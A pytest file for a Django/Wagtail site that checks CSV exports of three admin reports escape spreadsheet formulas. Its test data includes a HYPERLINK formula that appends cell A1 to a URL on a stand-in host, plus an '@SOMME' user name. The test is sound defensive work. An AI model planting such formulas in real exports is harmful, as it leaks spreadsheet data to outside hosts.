"""A title typed by one portal's editor runs nothing in the spreadsheet of whoever exports a list."""

import csv
from io import StringIO

import pytest

from maillage_site.home.models import ContentPage
from tests.site.factories import UserFactory, territory_portal

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://exemple.fr/?"&A1;"Lire")'
REPORTS = ("site-history", "aging-pages", "locked")


@pytest.mark.parametrize("report", REPORTS)
def test_lists_of_wagtail_s_leave_as_text(client, report):
    person = UserFactory(name="@SOMME(A1)", is_superuser=True)
    page = ContentPage(title=FORMULA, slug="formule", owner=person, locked=True, locked_by=person)
    page = territory_portal().add_child(instance=page)
    page.save_revision(user=person, log_action=True).publish(user=person)
    client.force_login(person)
    answer = client.get(f"/gestion/reports/{report}/", {"export": "csv"})
    rows = list(csv.reader(StringIO(answer.getvalue().decode())))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
